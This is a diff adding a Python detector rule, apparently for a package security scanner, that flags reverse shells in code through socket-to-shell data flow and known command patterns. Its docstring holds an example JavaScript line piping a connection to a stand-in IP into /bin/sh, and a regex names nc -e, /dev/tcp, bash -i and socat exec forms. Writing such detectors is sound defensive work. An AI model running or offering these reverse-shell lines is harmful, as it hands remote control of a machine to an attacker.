@@ -1,0 +1,131 @@
+"""A shell is connected to another machine.
+
+**What it looks for.** A command interpreter whose input or output is a socket (piped, passed as `stdin` and
+`stdout`, or put in place with `dup2`); a program or shell command that was received from a socket, a web
+socket or an HTTP answer; and the command lines that are known for it (`/dev/tcp/`, `nc -e`, `bash -i >&`).
+
+**Why it is bad.** Whoever is at the other end works on the machine as if sitting at it, with all rights of
+the user who started the server.
+
+**Example.** `const link = net.connect(4443, "203.0.113.77"); link.pipe(spawn("/bin/sh").stdin)`
+
+**Remedy.** Do not install the package. A machine on which it ran has to be treated as taken over.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import TYPE_CHECKING
+
+import douane_signatures
+from douane.detectors import _sources as sources
+from douane.detectors._catalogue import catalogue, encoded
+from douane.detectors._credentials import command_lines
+from douane.detectors._flow import HOLE, program_of
+from douane.detectors._flow.shapes import elements
+from douane.detectors._places import evidence_at, is_aside
+from douane.model import Confidence, Severity
+from douane.rules import Evidence, Rule
+
+if TYPE_CHECKING:
+    from douane.detectors._flow import Program, State
+    from douane.syntax import Codebase
+
+_LINES = re.compile(
+    r"/dev/(tcp|udp)/|\b(nc|ncat|netcat)\b[^\n|;]{0,80}\s-\w{0,4}[ec]\b|\b(ba|z|da)?sh\s+-i\s*[<>0-9]*>?&"
+    r"|\bmkfifo\b[^\n]{0,120}\b(nc|ncat|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:"
+)
+_SHELL = re.compile(r"(^|[\\/])((ba|z|da|k|fi)?sh|cmd|powershell|pwsh)(\.\w{1,10})?(\s|$)")
+_SOCKETS = frozenset({"net", "tls", "ws", "socket", "dgram", "websocket", "websockets"})
+_WORDS = encoded(("tcp", "udp", "nc", "ncat", "netcat", "mkfifo", "socat", "WebSocket"))
+_STARTING = encoded(
+    ("spawn", "exec", "execSync", "execFile", "Popen", "run", "system", "popen", "call", "check_output")
+)
+_LARGE = 64 * 1024
+
+
+def look(codebase: Codebase) -> Iterator[Evidence]:
+    """Yield the shells that are connected to another machine."""
+    program = program_of(codebase)
+    linked = bool(program.importing(_SOCKETS) or program.mentioning(_WORDS))
+    if not linked and program.size > _LARGE:
+        return
+    starters = frozenset(douane_signatures.table(sources.EXECUTION)["starters"]["modules"])
+    searched = program.paths if program.size <= _LARGE else program.importing(starters)
+    paths = tuple(path for path in searched if not _STARTING.isdisjoint(program.words(path)))
+    judge = _Judge(program)
+    for _, call in catalogue(sources.EXECUTION, "start").calls(program, paths):
+        why = judge.why(call)
+        if why:
+            severity = Severity.LOW if is_aside(call.index.path) else None
+            yield evidence_at(call, why=why, severity=severity)
+
+
+class _Judge:
+    def __init__(self, program: Program) -> None:
+        self._program = program
+        self._received = program.tracer(lambda state: self._named(state, "receive"))
+        self._sockets = program.tracer(self._socket)
+
+    def _named(self, state: State, section: str) -> str | None:
+        found = catalogue(sources.NETWORK, section).is_call(self._program, state)
+        return section if found is not None else None
+
+    def _socket(self, state: State) -> str | None:
+        found = catalogue(sources.EXECUTION, "socket").is_call(self._program, state)
+        return "socket" if found is not None else None
+
+    def why(self, call: State) -> str:
+        """Return what is wrong with the program start at *call*; empty if nothing is."""
+        lines = command_lines(self._program, call)
+        known = next((line for line in lines if _LINES.search(line)), None)
+        if known is not None:
+            return f"starts a shell that is connected to another machine: {known[:80].replace(HOLE, '…')}"
+        first = self._program.argument(call, 0, "args")
+        if first is None:
+            return ""
+        if not any(HOLE not in line for line in lines):
+            for part in elements(self._program, first)[:1] or [first]:
+                found = self._received.trace(part)
+                if found:
+                    at = found[0].at
+                    return f"runs commands that come from the network, received at {at.index.path}:{at.line}"
+        if any(_SHELL.search(line) for line in lines) and self._is_connected(call):
+            return "starts a shell whose input and output are a connection to another machine"
+        return ""
+
+    def _is_connected(self, call: State) -> bool:
+        program = self._program
+        made = program.call(call)
+        given = list(made.keywords.values()) if made is not None else []
+        given += made.arguments[1:] if made is not None else []
+        if any(self._sockets.trace(call.at(node)) for node in given):
+            return True
+        near = (call.index.path,)
+        for state in program.calls(near, frozenset({"dup2"})):
+            if any(self._sockets.trace(state.at(node)) for node in program.nodes(state)):
+                return True
+        started = program.tracer(lambda state: "shell" if state.key[:2] == call.key[:2] else None)
+        for state in program.calls(near, frozenset({"pipe", "write", "send", "sendall"})):
+            piped = program.call(state)
+            if piped is None or piped.receiver is None:
+                continue
+            ends = [state.at(piped.receiver), *(state.at(node) for node in piped.arguments[:1])]
+            shells = [bool(started.trace(end)) for end in ends]
+            links = [bool(self._sockets.trace(end)) for end in ends]
+            if any(shells) and any(links):
+                return True
+        return False
+
+
+RULE = Rule(
+    id="reverse-shell",
+    summary="a shell is connected to another machine",
+    severity=Severity.CRITICAL,
+    confidence=Confidence.HIGH,
+    row="supply.code",
+    remedy="Do not install this package; treat a machine on which it ran as taken over.",
+    taxonomy=("MCP04:2025", "MCP05:2025", "SAFE-T1903", "SAFE-T1203", "AML.T0072"),
+    code=look,
+)
